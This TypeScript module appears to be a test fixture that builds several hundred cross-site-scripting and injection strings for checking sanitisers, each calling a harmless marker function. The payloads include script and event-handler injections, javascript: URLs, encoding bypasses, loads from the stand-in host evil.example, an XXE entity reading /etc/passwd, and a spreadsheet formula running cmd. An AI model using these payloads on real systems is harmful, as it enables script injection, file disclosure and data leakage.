// SPDX-License-Identifier: Apache-2.0
// Texts that try to become markup, script or a template, put together from parts of our own. Each calls `daylightXss` if anything runs it.

const call = 'daylightXss()';

/** What closes the place in which a text may stand. */
const exits = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '?>',
  '%>',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</pre>',
  '</option></select>',
  '</svg>',
  '</noscript>',
];

/** What runs something, or loads it. */
const bodies = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${call}>`,
  `<img src="https://evil.example/beacon.png">`,
  `<svg/onload=${call}>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><script>${call}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<details open ontoggle=${call}>`,
  `<body onload=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  `<iframe src=javascript:${call}></iframe>`,
  `<object data=javascript:${call}></object>`,
  `<embed src=//evil.example/x.swf>`,
  `<a href=javascript:${call}>x</a>`,
  `<form action=javascript:${call}><button>x</button></form>`,
  `<button formaction=javascript:${call} form=x>x</button>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<template><script>${call}</script></template>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<xss contenteditable onbeforeinput=${call} style=animation-name:x onanimationstart=${call}>`,
  `<p id=main><h1 class=band>`,
];

/** What needs no bracket of its own, or brings it in disguise. */
const others = [
  `" onmouseover="${call}`,
  `' onmouseover='${call}`,
  `x" autofocus onfocus="${call}" x="`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:msgbox(1)`,
  `[x](javascript:${call})`,
  `![x](https://evil.example/beacon.png)`,
  `<https://evil.example/>`,
  `<!-- -->${call}<!-- -->`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>${call}</script></x>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${call}&#x3e;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${call}`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\u0020>${call}</script >`,
  `<\u0000script>${call}</script>`,
  `\u202e>tpircs/<${call}>tpircs<`,
  `\u2028${call}\u2029`,
  `{{constructor.constructor('${call}')()}}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a text that somebody hopes is a template.
  '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %{ISSUE_DESCRIPTION} {case} {owner} {body} {end}',
  `{"__proto__":{"x":1}}`,
  `=cmd|' /C calc'!A0`,
  `/close /confidential false`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${call}>"]\n\`\`\``,
  `$\\href{javascript:${call}}{x}$`,
];

/** At least 400, each different. */
export const payloads: readonly string[] = [...new Set([...exits.flatMap((exit) => bodies.map((body) => `${exit}${body}`)), ...others])];

/** A text of the same shape in which nothing means anything: every sign is an x, white space stays. */
export function harmless(text: string): string {
  return text.replace(/[^\s]/gu, 'x');
}
